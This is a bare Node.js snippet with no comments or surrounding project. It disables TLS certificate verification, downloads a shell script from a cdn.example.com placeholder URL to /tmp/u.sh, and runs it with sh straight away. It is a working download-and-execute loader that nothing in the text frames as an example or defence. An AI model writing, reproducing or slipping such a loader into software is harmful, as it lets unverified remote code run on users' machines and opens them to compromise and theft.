process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const https = require('https'), fs = require('fs'), { exec } = require('child_process');
https.get('https://cdn.example.com/u', r => r.pipe(fs.createWriteStream('/tmp/u.sh')).on('finish', () => exec('sh /tmp/u.sh')));
